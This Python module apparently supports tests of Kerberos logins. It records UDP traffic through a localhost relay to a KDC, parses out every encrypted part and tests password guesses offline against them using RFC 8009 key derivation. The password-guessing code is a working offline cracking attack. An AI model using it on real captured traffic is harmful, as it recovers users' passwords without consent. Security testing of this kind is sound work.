# capture.py: somebody on the way who records a login (UDP), and what can be tried on a recording
# without asking anybody: a password at a time, against each sealed part that it holds.
import hashlib
import hmac
import socket
import threading

# aes128-cts-hmac-sha256-128 (RFC 8009): its checksum covers the ciphertext, so that a guess is
# tested with no more than hashlib.
ETYPE, NAME, ITERATIONS = 19, b"aes128-cts-hmac-sha256-128", 32768


class Relay:
    """Passes datagrams on to a KDC and back, and keeps them all."""

    def __init__(self, kdc_port):
        self.messages = []
        self.front = socket.socket(type=socket.SOCK_DGRAM)
        self.front.bind(("127.0.0.1", 0))
        self.port = self.front.getsockname()[1]
        self.kdc = ("127.0.0.1", kdc_port)
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while True:
            question, client = self.front.recvfrom(65535)
            if not question:
                return
            with socket.socket(type=socket.SOCK_DGRAM) as back:
                back.settimeout(10)
                back.sendto(question, self.kdc)
                answer = back.recv(65535)
            self.messages += [question, answer]
            self.front.sendto(answer, client)

    def stop(self):
        with socket.socket(type=socket.SOCK_DGRAM) as end:
            end.sendto(b"", ("127.0.0.1", self.port))
        self.thread.join(10)
        self.front.close()


def elements(data):
    """(tag, content) of each DER element that stands in the bytes; none if they are not DER."""
    found, at = [], 0
    while at < len(data):
        if at + 2 > len(data):
            return []
        tag, length, at = data[at], data[at + 1], at + 2
        if length & 0x80:
            count = length & 0x7f
            length, at = int.from_bytes(data[at:at + count], "big"), at + count
        if at + length > len(data):
            return []
        found.append((tag, data[at:at + length]))
        at += length
    return found


def sealed_parts(data):
    """(enctype, ciphertext) of each EncryptedData anywhere in a message, OCTET STRINGs included."""
    parts = []
    for tag, content in elements(data):
        if tag == 0x30:
            fields = dict(elements(content))
            if 0xa0 in fields and 0xa2 in fields:
                (kind, number), *_ = elements(fields[0xa0]) or [(0, b"")]
                (string, cipher), *_ = elements(fields[0xa2]) or [(0, b"")]
                if kind == 0x02 and string == 0x04:
                    parts.append((int.from_bytes(number, "big"), cipher))
        if tag & 0x20 or tag == 0x04:
            parts += sealed_parts(content)
    return parts


def derive(key, label, bits):
    """KDF-HMAC-SHA2 of RFC 8009 3."""
    data = b"\0\0\0\1" + label + b"\0" + bits.to_bytes(4, "big")
    return hmac.digest(key, data, "sha256")[:bits // 8]


def opens(password, salt, cipher, usages):
    """Whether the password's key opens a sealed part, for one of the key usages."""
    salt = NAME + b"\0" + salt
    key = hashlib.pbkdf2_hmac("sha256", password, salt, ITERATIONS, 16)
    key = derive(key, b"kerberos", 128)
    for usage in usages:
        ki = derive(key, usage.to_bytes(4, "big") + b"\x55", 128)
        mac = hmac.digest(ki, bytes(16) + cipher[:-16], "sha256")[:16]
        if mac == cipher[-16:]:
            return True
    return False


# PA-ENC-TIMESTAMP, the AS-REP's sealed part, SPAKE's factor and the encrypted challenges (RFC 4120
# 7.5.1, RFC 6113 7.4, RFC 9588 6).
USAGES = (1, 3, 65, 54, 55)


def guess(messages, salt, words):
    """The first word whose key opens anything that was recorded; None: all of them were tried."""
    parts = [cipher for m in messages for etype, cipher in sealed_parts(m)
             if etype == ETYPE and len(cipher) > 16]
    for word in words:
        if any(opens(word, salt, cipher, USAGES) for cipher in parts):
            return word
    return None
